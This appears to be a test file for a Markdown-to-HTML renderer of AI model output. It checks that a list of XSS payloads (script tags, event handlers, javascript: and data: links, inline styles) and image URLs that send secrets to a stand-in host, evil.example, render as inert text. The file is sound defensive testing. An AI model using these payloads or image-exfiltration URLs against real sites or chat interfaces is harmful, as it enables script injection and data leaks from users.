"""Model output as HTML: Markdown kept, script and images never."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from gptforge.web.markdown import TAGS, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](https://evil.example/p.png?secret=1)",
    "<iframe src=https://evil.example></iframe>",
    '<svg onload="alert(1)">',
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def _inert(html: str) -> None:
    """Only harmless elements: no script, image, frame or style; links only to http(s)/mailto."""
    parser = _Elements()
    parser.feed(html)
    for tag, attributes in parser.found:
        assert tag in TAGS, tag
        assert not any(name.startswith("on") or name == "style" for name in attributes), attributes
        href = (attributes.get("href") or "").strip().lower()
        if href:
            assert href.startswith(("http://", "https://", "mailto:")), href


def test_markdown_is_rendered() -> None:
    html = render_markdown("# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a |\n|---|\n| 1 |")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html


def test_links_open_safely() -> None:
    html = render_markdown("[docs](https://docs.example/a)")
    assert 'href="https://docs.example/a"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_script_stays_text() -> None:
    html = render_markdown("Hi <script>alert(1)</script>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    _inert(html)


def test_a_remote_image_becomes_a_link_that_is_not_loaded() -> None:
    html = render_markdown("![the chart](https://evil.example/p.png?d=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?d=secret"' in html
    assert "Image: the chart (not loaded)" in html


def test_hostile_inputs_are_inert() -> None:
    for text in HOSTILE:
        _inert(render_markdown(text))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "**", "`", "\n\n", "[", "](", ")", "<", ">", '"', "x"]),
        max_size=12,
    ).map("".join)
)
def test_any_mix_of_hostile_pieces_is_inert(text: str) -> None:
    _inert(render_markdown(text))


def test_relative_links_lose_their_target() -> None:
    html = render_markdown(
        "[me](/api/v1/me) [x](img src=x onerror=alert(1)) [ok](https://a.example/)"
    )
    assert 'href="/api' not in html
    assert html.count("href=") == 1 and 'href="https://a.example/"' in html
    _inert(html)
